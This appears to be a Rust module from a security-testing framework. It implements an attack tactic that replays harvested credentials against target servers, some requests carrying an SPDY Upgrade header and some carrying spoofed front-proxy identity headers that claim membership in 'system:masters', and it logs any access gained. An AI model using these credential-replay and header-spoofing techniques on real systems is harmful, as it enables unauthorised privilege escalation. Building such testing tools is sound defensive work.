//! The attacker shows what it holds: its own credentials, and those that it gained on this path.

use super::Tactic;
use super::spend::{Shown, for_ask, request};
use crate::field::{Field, Probe};
use crate::holdings::{Held, Secret};
use crate::notes::Notes;
use crate::target::{Ask, Target, TokenShape};
use async_trait::async_trait;
use ravelin_oracle::{Attempt, GainKind};
use ravelin_pki::inspect;
use std::net::SocketAddr;

/// Asking with every credential that it holds.
pub struct OwnCredentials(pub Dress);

/// What its requests look like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dress {
    /// Like anybody's.
    Plain,
    /// They ask for another protocol (RFC 9110 section 7.8): a server that treats such requests
    /// apart may forget to ask whether they are allowed.
    Upgrade,
    /// They name another as whom they are made, as a front proxy's do: a server that takes any
    /// certificate for a front proxy's believes it.
    FrontProxy,
}

impl Dress {
    fn headers(self, target: &Target) -> Vec<(String, String)> {
        let headers = match self {
            Self::Plain => vec![],
            Self::Upgrade => vec![("connection", "Upgrade"), ("upgrade", "SPDY/3.1")],
            Self::FrontProxy => vec![
                ("x-remote-user", target.client.common_name.as_str()),
                ("x-remote-group", "system:masters"),
            ],
        };
        headers.into_iter().map(|(name, value)| (name.to_owned(), value.to_owned())).collect()
    }
}

#[async_trait(?Send)]
impl Tactic for OwnCredentials {
    fn name(&self) -> &'static str {
        match self.0 {
            Dress::Plain => "own-credentials",
            Dress::Upgrade => "ask-for-an-upgrade",
            Dress::FrontProxy => "front-proxy-headers",
        }
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        probe.await;
        let proves =
            |held: &Held| self.0 != Dress::FrontProxy || matches!(held.secret, Secret::Certificate(_));
        for held in field.credentials().into_iter().filter(proves) {
            for server in &target.servers {
                self.show(&notes, target, (&held, *server)).await;
            }
        }
        notes.finish()
    }
}

impl OwnCredentials {
    /// Would the credential alone do?
    async fn is_granted_anyway(
        &self,
        notes: &Notes<'_>,
        target: &Target,
        (held, wanted): (&Held, &Ask),
    ) -> bool {
        let Some(server) = target.servers.first() else { return false };
        let asked = (for_ask(wanted, *server), Shown::of(&held.secret));
        request(notes, *server, target.speaks, asked).await.is_ok_and(|answer| answer.granted())
    }

    async fn show(&self, notes: &Notes<'_>, target: &Target, (held, server): (&Held, SocketAddr)) {
        let flow = notes.field().flow(server);
        for wanted in target.asks.iter().chain(&target.reads) {
            let mut asked = for_ask(wanted, server);
            asked.headers.extend(self.0.headers(target));
            match request(notes, server, target.speaks, (asked, Shown::of(&held.secret))).await {
                Ok(answer) if answer.granted() => {
                    notes.learned(&flow, answer.body);
                    let text = format!("{} with {}", wanted.deed(), held.what);
                    notes.gained(&flow, GainKind::BeyondRights, text.clone());
                    let is_theirs = match self.0 {
                        Dress::FrontProxy => !self.is_granted_anyway(notes, target, (held, wanted)).await,
                        _ => is_the_clients(&held.secret, target),
                    };
                    if wanted.method != "GET" && is_theirs {
                        notes.gained(&flow, GainKind::ExecutedAsClient, text);
                    }
                }
                Ok(answer) => {
                    notes.tell(format!("{flow}: asked for {} with {}", wanted.what, held.what));
                    notes.refused_by_status(&flow, answer.status, &target.stakes());
                }
                Err(silence) => notes.tell(format!("{flow}: no answer ({silence:?})")),
            }
        }
    }
}

/// Does the credential bear the very name that the path's client has?
fn is_the_clients(secret: &Secret, target: &Target) -> bool {
    match secret {
        Secret::Token(token) => match (TokenShape::of(token), &target.token) {
            (TokenShape::Jwt { claims: own, .. }, TokenShape::Jwt { claims, .. }) => {
                own["sub"] == claims["sub"]
            }
            _ => false,
        },
        Secret::Certificate(identity) => {
            let subject = identity.chain.first().and_then(inspect).map(|found| found.subject);
            subject.is_some_and(|subject| subject.common_name == target.client.common_name)
        }
    }
}
